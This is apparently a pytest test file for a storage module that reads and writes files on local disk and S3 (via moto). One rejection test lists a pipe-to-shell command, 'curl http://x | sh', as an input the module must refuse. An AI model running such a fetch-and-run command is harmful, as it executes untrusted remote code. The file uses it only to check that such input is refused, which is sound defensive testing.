"""umt.storage against the local filesystem and a real S3-protocol server (moto)."""

from __future__ import annotations

import os

import boto3
import pytest

from umt import storage
from umt.errors import UserError


@pytest.fixture(params=["local", "s3"])
def base(request, tmp_path):
    """The same tests run on a local folder and on an S3 bucket."""
    if request.param == "local":
        return str(tmp_path / "store")
    return request.getfixturevalue("s3_bucket") + "/store"


def test_roundtrip_exists_list_delete(base):
    a = storage.join(base, "a.bin")
    b = storage.join(base, "sub", "deeper", "b.json")
    assert not storage.exists(a)
    storage.write_bytes(a, b"\x00\x01 hello")
    storage.write_bytes(b, b"{}")
    assert storage.read_bytes(a) == b"\x00\x01 hello"
    assert storage.exists(a) and storage.exists(b)
    assert storage.size(a) == 8
    assert storage.list_uris(base) == sorted([a, b])
    with storage.open_read(a) as f:
        assert f.read(3) == b"\x00\x01 " and f.read() == b"hello"
    storage.write_bytes(a, b"new")  # overwrite
    assert storage.read_bytes(a) == b"new"
    storage.delete(a)
    storage.delete(a)  # deleting twice is fine
    assert not storage.exists(a)
    assert storage.list_uris(base) == [b]


def test_missing_raises_file_not_found(base):
    missing = storage.join(base, "nope.bin")
    with pytest.raises(FileNotFoundError):
        storage.read_bytes(missing)
    with pytest.raises(FileNotFoundError):
        storage.open_read(missing)
    with pytest.raises(FileNotFoundError):
        storage.size(missing)
    assert storage.list_uris(storage.join(base, "no-such-folder")) == []


def test_upload_download(base, tmp_path):
    src = tmp_path / "src.bin"
    src.write_bytes(os.urandom(100_000))
    uri = storage.join(base, "up", "file.bin")
    storage.upload_file(str(src), uri)
    dst = tmp_path / "out" / "copy.bin"
    storage.download_file(uri, str(dst))
    assert dst.read_bytes() == src.read_bytes()
    with pytest.raises(FileNotFoundError):
        storage.download_file(storage.join(base, "missing"), str(tmp_path / "x"))
    assert not (tmp_path / "x").exists()


def test_s3_list_is_a_folder_not_a_string_prefix(s3_bucket):
    storage.write_bytes(f"{s3_bucket}/data/x", b"1")
    storage.write_bytes(f"{s3_bucket}/data2/y", b"2")
    assert storage.list_uris(f"{s3_bucket}/data") == [f"{s3_bucket}/data/x"]
    assert storage.list_uris(s3_bucket) == [f"{s3_bucket}/data/x", f"{s3_bucket}/data2/y"]


def test_s3_multipart_upload_for_large_objects(s3_bucket, tmp_path, monkeypatch):
    # Lower the threshold instead of writing 64 MiB: the code path (transfer manager, parts) is
    # the same. S3 marks multipart objects with an ETag ending in -<number of parts>.
    monkeypatch.setattr(storage, "MULTIPART_THRESHOLD", 5 * 1024 * 1024)
    monkeypatch.setattr(storage, "MULTIPART_CHUNKSIZE", 5 * 1024 * 1024)
    data = os.urandom(11 * 1024 * 1024)
    src = tmp_path / "big.bin"
    src.write_bytes(data)
    storage.upload_file(str(src), f"{s3_bucket}/big.bin")
    storage.write_bytes(f"{s3_bucket}/big2.bin", data)
    client = storage.s3_client()
    for key in ("big.bin", "big2.bin"):
        head = client.head_object(Bucket=s3_bucket[5:], Key=key)
        assert head["ETag"].strip('"').endswith("-3"), head["ETag"]
        assert storage.read_bytes(f"{s3_bucket}/{key}") == data
    with storage.open_read(f"{s3_bucket}/big.bin") as f:
        chunks = iter(lambda: f.read(1 << 20), b"")
        assert b"".join(chunks) == data


def test_s3_client_honours_aws_endpoint_url(s3_env, s3_bucket):
    """Data written through storage is visible to a plain boto3 client on the same endpoint."""
    storage.write_bytes(f"{s3_bucket}/k", b"v")
    plain = boto3.client("s3", endpoint_url=os.environ["AWS_ENDPOINT_URL"])
    assert plain.get_object(Bucket=s3_bucket[5:], Key="k")["Body"].read() == b"v"
    cfg = storage.s3_client().meta.config
    assert cfg.retries["mode"] == "standard" and cfg.retries["total_max_attempts"] == 11


def test_local_write_is_atomic(tmp_path, monkeypatch):
    path = str(tmp_path / "ckpt.bin")
    storage.write_bytes(path, b"old")

    def boom(fd):
        raise OSError("disk full")

    monkeypatch.setattr(os, "fsync", boom)
    with pytest.raises(OSError, match="disk full"):
        storage.write_bytes(path, b"new content")
    # The old file is intact and no temp file is left behind.
    assert open(path, "rb").read() == b"old"
    assert os.listdir(tmp_path) == ["ckpt.bin"]


def test_written_files_are_not_private(tmp_path):
    path = str(tmp_path / "f")
    storage.write_bytes(path, b"x")
    assert os.stat(path).st_mode & 0o044  # readable by group/others (umask permitting)


@pytest.mark.parametrize("uri", ["pipe:curl http://x | sh", "pipe:ls", "http://example.com/a.tar",
                                 "gs://bucket/x", "s3://", ""])
def test_rejects_other_schemes(uri):
    with pytest.raises(ValueError):
        storage.read_bytes(uri)
    with pytest.raises(ValueError):
        storage.open_read(uri)


def test_join():
    assert storage.join("s3://b/p/", "x", "/y/") == "s3://b/p/x/y"
    assert storage.join("/tmp/a", "b", "c.tar") == "/tmp/a/b/c.tar"
    assert storage.join("file:///tmp/a", "b") == "file:///tmp/a/b"
    assert storage.check_uri("C:\\data\\x.mp4")  # drive letter, not a scheme


# ------------------------------------------------- S3 failures other than "not found" (issue 7 §6)

S3_OPS = {
    "read": lambda u, tmp: storage.read_bytes(u),
    "stream": lambda u, tmp: storage.open_read(u),
    "write": lambda u, tmp: storage.write_bytes(u, b"x"),
    "upload": lambda u, tmp: storage.upload_file(str(tmp), u),
    "download": lambda u, tmp: storage.download_file(u, str(tmp) + ".copy"),
    "exists": lambda u, tmp: storage.exists(u),
    "size": lambda u, tmp: storage.size(u),
    "list": lambda u, tmp: storage.list_uris(u),
    "delete": lambda u, tmp: storage.delete(u),
}


def _all_ops_raise(uri, tmp_path, *needles):
    src = tmp_path / "src.bin"
    src.write_bytes(b"data")
    for name, op in S3_OPS.items():
        with pytest.raises(storage.StorageError) as info:
            op(uri, src)
        msg = str(info.value)
        assert uri.split("/")[2] in msg and "\n" not in msg, (name, msg)
        for needle in needles:
            if "|" in needle:  # alternatives: HEAD answers carry no error code, only 403
                assert any(n in msg for n in needle.split("|")), (name, msg)
            else:
                assert needle in msg, (name, msg)
        assert isinstance(info.value, UserError)


def test_wrong_credentials_are_one_clear_error(s3_bucket, tmp_path, monkeypatch):
    from moto import settings
    from moto.core.authorization import ActionAuthenticatorMixin

    storage.write_bytes(f"{s3_bucket}/k", b"v")
    # moto checks signatures against its IAM users from now on: "testing" is not one of them.
    monkeypatch.setattr(settings, "INITIAL_NO_AUTH_ACTION_COUNT", 0)
    monkeypatch.setattr(ActionAuthenticatorMixin, "request_count", 0)
    _all_ops_raise(f"{s3_bucket}/k", tmp_path, "InvalidAccessKeyId|403 (Forbidden)",
                   "AWS_ACCESS_KEY_ID")


def test_missing_bucket_is_not_a_missing_object(s3_env, tmp_path):
    uri = "s3://umt-no-such-bucket-4d1b/dir/k"
    _all_ops_raise(uri, tmp_path, "NoSuchBucket", "check the bucket name", s3_env)


def test_endpoint_down_is_one_clear_error(s3_env, tmp_path, monkeypatch):
    import socket

    with socket.socket() as sock:  # a port nobody listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{port}")
    monkeypatch.setattr(storage, "S3_MAX_ATTEMPTS", 1)  # refused at once; no backoff to wait for
    _all_ops_raise("s3://bucket/k", tmp_path, "cannot reach the S3 endpoint",
                   f"http://127.0.0.1:{port}", "AWS_ENDPOINT_URL")


def test_not_found_stays_file_not_found_on_s3(s3_bucket, tmp_path):
    uri = f"{s3_bucket}/missing/k"
    for name in ("read", "stream", "download", "size"):
        with pytest.raises(FileNotFoundError):
            S3_OPS[name](uri, tmp_path / "x")
    assert storage.exists(uri) is False and storage.list_uris(uri) == []
    storage.delete(uri)  # deleting what is not there is fine
